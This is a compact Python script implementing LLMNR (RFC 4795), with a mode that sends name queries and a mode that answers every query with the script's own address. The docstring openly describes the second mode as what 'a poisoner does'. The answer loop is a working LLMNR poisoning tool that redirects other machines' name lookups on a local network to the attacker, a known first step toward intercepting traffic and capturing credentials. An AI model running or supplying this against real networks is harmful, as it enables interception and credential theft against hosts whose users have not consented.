"""LLMNR (RFC 4795) in few lines: asks for names, or answers all of them with one address, as a poisoner does.

    llmnr.py ask OWN-ADDRESS NAME...
    llmnr.py answer OWN-ADDRESS
"""
import socket, struct, sys, time

GROUP, PORT = '224.0.0.252', 5355


def question(number, name):
    return struct.pack('>6H', number, 0, 1, 0, 0, 0) + bytes([len(name)]) + name.encode() + b'\0' + struct.pack('>2H', 1, 1)


def answer(query, address):
    name = query[12:-4]
    return query[:2] + struct.pack('>5H', 0x8000, 1, 1, 0, 0) + query[12:] + name + struct.pack('>2HIH', 1, 1, 30, 4) + socket.inet_aton(address)


def main():
    what, own = sys.argv[1:3]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if what == 'ask':
        s.bind((own, 0))
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
        for number, name in enumerate(sys.argv[3:], 1):
            s.sendto(question(number, name), (GROUP, PORT))
            time.sleep(0.3)
        return
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(('', PORT))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + socket.inet_aton(own))
    while True:
        query, peer = s.recvfrom(512)
        if len(query) > 16 and not query[2] & 0x80:
            s.sendto(answer(query, own), peer)


main()
